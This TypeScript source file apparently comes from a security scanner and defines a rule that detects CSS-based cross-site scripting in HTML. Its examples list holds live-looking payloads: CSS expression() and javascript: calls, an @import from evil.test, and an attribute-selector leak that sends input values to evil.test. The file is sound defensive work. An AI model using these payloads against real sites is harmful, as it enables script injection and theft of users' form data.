import { charClass } from '../../text/char-class.ts';
import { type HtmlAttribute, html } from '../../tokenise/html.ts';
import type { Match, ValueRule } from '../rule.ts';
import type { Subject } from '../subject.ts';
import { plainValue } from './markup.ts';
import { scriptPieces, strongestScript } from './script-pieces.ts';
import { squeezeStyle } from './style.ts';

/** Style declarations in markup that run script or fetch a style sheet from elsewhere. */
export const styleScript: ValueRule = {
  id: 'xss.style-script',
  category: 'xss',
  cwe: 'CWE-79',
  severity: 'high',
  score: 90,
  message: 'holds a style that runs script, binds one, or imports a foreign style sheet',
  trigger: { classes: charClass.less, literals: [['style', 'css']] },
  judge: judgeStyles,
  examples: [
    '<div style="width:expression(alert(1))">',
    '<b style="x:ex/**/pression(steal())">hi</b>',
    '<style>body{background:url("javascript:go()")}</style>',
    "<style>@import'//evil.test/x.css';</style>",
    '<p style="-moz-binding:url(//evil.test/x.xml#y)">',
    '<style>input[value^="a"]{background:url(//evil.test/a)}</style>',
  ],
  lookalikes: [
    '<p style="text-align: center; color: #333; background: url(\'/img/bg.png\')">Hi</p>',
    '<style>html { scroll-behavior: smooth; overscroll-behavior: none }</style>',
    '<style>@import url("https://fonts.example.org/css?family=Inter");</style>',
    '<p class="style">the expression (x + 1) is a style of its own</p>',
    '<style>a[href^="http"]{background:url(/img/external.svg) no-repeat right}</style>',
  ],
};

function judgeStyles(subject: Subject): Match | undefined {
  const { text } = subject;
  let best: Match | undefined;
  const weigh = (start: number, end: number, from: number): void => {
    const score = scoreOfStyle(squeezeStyle(text, from, end));
    if (score > (best?.score ?? 0)) best = { start, end: Math.min(end, start + 120), score };
  };
  for (const tag of subject.tokens(html).tags) {
    for (const attribute of tag.attributes) {
      if (attribute.name !== 'style') continue;
      weigh(attribute.start, attribute.valueEnd, attribute.valueStart);
      if (best === undefined && holdsDialog(subject, attribute)) {
        return { start: attribute.start, end: attribute.valueEnd, score: 80 };
      }
    }
    if (tag.name !== 'style' || tag.isEndTag) continue;
    if (plainValue(text, tag, 'type').endsWith('script')) {
      return { start: tag.start, end: tag.end, score: 85 };
    }
    weigh(tag.start, tag.contentEnd, tag.end);
    if (best !== undefined && (best.score ?? 0) >= 90) return best;
  }
  return best;
}

/** `x:a/**\/b(alert(1))`: a call that no style has. */
function holdsDialog(subject: Subject, attribute: HtmlAttribute): boolean {
  const { valueStart, valueEnd } = attribute;
  if (!subject.text.slice(valueStart, valueEnd).includes('(')) return false;
  return strongestScript(subject.tokens(scriptPieces), valueStart, valueEnd).strength >= 3;
}

/** Takes squeezed CSS. */
function scoreOfStyle(style: string): number {
  if (style.includes('expression(')) return 92;
  if (style.includes('javascript:') || style.includes('vbscript:')) return 92;
  if (style.includes('-moz-binding:') || style.includes('binding:url(')) return 90;
  if (style.includes('behavior:url(') || style.includes('behaviour:url(')) return 85;
  if (style.includes('data:text/html') || style.includes('data:text/css')) return 80;
  const leak = style.indexOf('[value^=');
  if (leak >= 0 && namesHost(style, style.indexOf('url(', leak))) return 80;
  return scoreOfImport(style);
}

function scoreOfImport(style: string): number {
  const at = style.indexOf('@import');
  if (at < 0) return 0;
  const target = style.slice(at + 7, at + 40);
  const isFunction = target.startsWith('url(');
  const url = withoutQuotes(isFunction ? target.slice(4) : target);
  if (url.startsWith('//')) return isFunction ? 55 : 80;
  if (url.startsWith('http:')) return 72;
  return url.startsWith('https:') ? 50 : 0;
}

function namesHost(style: string, at: number): boolean {
  if (at < 0) return false;
  const url = withoutQuotes(style.slice(at + 4, at + 40));
  return url.startsWith('//') || url.startsWith('http');
}

function withoutQuotes(url: string): string {
  return url.replaceAll('"', '').replaceAll("'", '');
}
